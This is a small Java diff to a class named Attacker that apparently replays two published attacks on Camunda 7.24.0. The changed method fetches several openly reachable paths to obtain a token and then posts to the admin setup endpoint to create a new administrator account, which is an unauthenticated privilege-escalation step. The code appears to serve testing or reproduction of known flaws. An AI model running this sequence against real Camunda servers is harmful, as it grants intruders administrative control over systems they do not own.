@@ -2,6 +2,7 @@ package vn.dondoc.web;
 
 import java.net.http.HttpRequest.BodyPublishers;
 import java.net.http.HttpResponse;
+import java.util.List;
 import java.util.concurrent.atomic.AtomicInteger;
 
 /** What the two published attacks on Camunda 7.24.0 send, with all tokens in order. */
@@ -33,8 +34,9 @@ final class Attacker {
 
 	HttpResponse<String> makeMyselfAdministrator() {
 		String setup = "/camunda/api/admin/setup/default/user/create";
-		// Answered with 405, and with a token
-		this.client.get(setup);
+		// Whatever is open to anybody brings a token
+		List.of("/camunda/app/admin/styles/user-styles.css", "/camunda/api/admin/auth/user/default", setup)
+			.forEach((path) -> this.client.get(path));
 		return post(setup, NEW_ADMINISTRATOR);
 	}
 
